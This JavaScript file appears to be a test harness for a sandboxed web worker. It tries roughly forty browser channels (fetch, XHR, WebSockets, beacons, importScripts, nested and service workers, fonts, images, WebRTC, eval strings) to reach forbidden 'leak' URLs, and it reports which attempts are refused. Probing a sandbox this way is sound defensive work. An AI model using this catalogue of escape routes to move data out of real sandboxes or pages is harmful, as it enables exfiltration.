// What an attacker would append to the core worker's script: every way out that a worker may have, tried on request.
// Whoever sends { name, targets } over the channel gets { name, outcomes } back, one for each target. Plain JavaScript,
// because it runs as it stands here.
{
  /** How long an attack may stay without an answer before it counts as hanging, in milliseconds. */
  const PATIENCE_MS = 1000;

  const source = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }));
  const events = (target, good) =>
    new Promise((resolve, reject) => {
      for (const name of good) target[`on${name}`] = () => resolve(name);
      target.onerror = (event) => {
        // An error that nobody takes goes up to the page, which then ends the worker in the middle of its attack.
        event?.preventDefault?.();
        reject(new Error(event?.message || 'error event'));
      };
    });
  /** Runs a script in a nested worker that reports back. */
  const nested = (text, options) => events(new Worker(source(text), options), ['message']);

  /** Each gets a URL that nobody may ask for. */
  const attacks = {
    // Synchronous loads come first: in Firefox one that finds another load in flight never ends.
    'xhr-sync': (url) => {
      const request = new XMLHttpRequest();
      request.open('POST', url, false);
      request.send('event');
    },
    importscripts: (url) => importScripts(url),
    fetch: (url) => fetch(url, { mode: 'no-cors' }),
    'fetch-post': (url) => fetch(url, { method: 'POST', body: 'event', mode: 'no-cors', keepalive: true }),
    xhr: (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      const sent = events(request, ['load']);
      request.send();
      return sent;
    },
    websocket: (url) => events(new WebSocket(url.replace('http', 'ws')), ['open']),
    'websocket-stream': (url) => new WebSocketStream(url.replace('http', 'ws')).opened,
    eventsource: (url) => events(new EventSource(url), ['open']),
    webtransport: (url) => new WebTransport(url.replace('http:', 'https:')).ready,
    import: (url) => import(url),
    'import-of-import': (url) => import(source(`import ${JSON.stringify(url)}`)),
    'import-data': (url) => import(`data:text/javascript,import ${JSON.stringify(url)}`),
    'importscripts-blob': (url) => importScripts(source(`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`)),
    'worker-url': (url) => events(new Worker(url), ['message']),
    'worker-module-url': (url) => events(new Worker(url, { type: 'module' }), ['message']),
    'worker-data': (url) => events(new Worker(`data:text/javascript,fetch('${url}')`), ['message']),
    'shared-worker': (url) => events(new SharedWorker(url), []),
    'service-worker': (url) => navigator.serviceWorker.register(url),
    'service-worker-descriptor': (url) =>
      Object.getOwnPropertyDescriptor(WorkerNavigator.prototype, 'serviceWorker').get.call(navigator).register(url),
    'nested-fetch': (url) =>
      nested(
        `fetch(${JSON.stringify(url)}, { mode: 'no-cors' }).then(() => postMessage(1), () => setTimeout(() => { throw 1 }))`,
      ),
    'nested-importscripts': (url) => nested(`importScripts(${JSON.stringify(url)}); postMessage(1)`),
    'nested-service-worker': (url) =>
      nested(
        `navigator.serviceWorker.register(${JSON.stringify(url)}).then(() => postMessage(1), () => setTimeout(() => { throw 1 }))`,
      ),
    'nested-module': (url) => nested(`import ${JSON.stringify(url)}; postMessage(1)`, { type: 'module' }),
    'nested-json': (url) =>
      nested(`import json from ${JSON.stringify(url)} with { type: 'json' }; postMessage(json)`, { type: 'module' }),
    'nested-css': (url) =>
      nested(`import sheet from ${JSON.stringify(url)} with { type: 'css' }; postMessage(1)`, { type: 'module' }),
    'nested-twice': (url) =>
      nested(`const inner = new Worker(URL.createObjectURL(new Blob(["fetch(${`'${url}'`}, { mode: 'no-cors' })"])));
        inner.onerror = () => { throw 1 }`),
    'source-map': (url) => nested(`setTimeout(() => { throw 1 })\n//# sourceMappingURL=${url}`),
    beacon: (url) => navigator.sendBeacon(url, 'event'),
    image: (url) => {
      new Image().src = url;
    },
    'image-bitmap': (url) => fetch(url).then((response) => response.blob().then(createImageBitmap)),
    font: (url) => new FontFace('leak', `url(${url})`).load(),
    'css-filter': (url) => {
      const pen = new OffscreenCanvas(9, 9).getContext('2d');
      pen.filter = `url(${url}#a)`;
      pen.fillRect(0, 0, 9, 9);
      throw new Error('drawn');
    },
    'css-import': (url) => new CSSStyleSheet().replace(`@import url(${url})`),
    cache: (url) => caches.open('leak').then((cache) => cache.add(url)),
    notification: (url) => {
      // Without the user's permission it is made all the same, and shows nothing.
      new Notification('leak', { icon: url, image: url, badge: url });
      throw new Error('made');
    },
    webrtc: (url) => {
      new RTCPeerConnection({ iceServers: [{ urls: url.replace(/http:..([^/]*).*/, 'stun:$1') }] }).createDataChannel(
        'a',
      );
    },
    navigate: (url) => {
      location.href = url;
      location.assign(url);
    },
    eval: (url) => new Function(`return fetch('${url}', { mode: 'no-cors' })`)(),
    'timeout-string': (url) =>
      new Promise((_resolve, reject) => {
        setTimeout(`fetch('${url}', { mode: 'no-cors' })`, 0);
        setTimeout(() => reject(new Error('not run, or refused')), 50);
      }),
    wasm: (url) => WebAssembly.compileStreaming(fetch(url)),
    // The frame that holds the worker listens to the page alone.
    'ask-the-frame': (url) => {
      postMessage([`fetch('${url}', { mode: 'no-cors' })`, 'leak']);
      postMessage({ url, source: `fetch('${url}')` });
      throw new Error('no answer is possible');
    },
  };

  const attempt = async (attack, url) => {
    const hanging = new Promise((resolve) => setTimeout(resolve, PATIENCE_MS, 'no answer'));
    const outcome = Promise.resolve()
      .then(() => attack(url))
      .then(
        () => 'went through',
        (error) => `refused: ${error?.name} ${error?.message ?? error}`,
      );
    return Promise.race([outcome, hanging]);
  };

  const channel = new BroadcastChannel('vitrine-attack');
  const introduce = () => channel.postMessage({ names: Object.keys(attacks) });
  channel.onmessage = async ({ data: { ask, name, targets } }) => {
    if (ask) introduce();
    if (!targets) return;
    const outcomes = [];
    // One after the other, so that none disturbs the next.
    for (const target of targets) outcomes.push(await attempt(attacks[name], `${target}/leak/${name}.js`));
    channel.postMessage({ name, outcomes });
  };
  introduce();
}
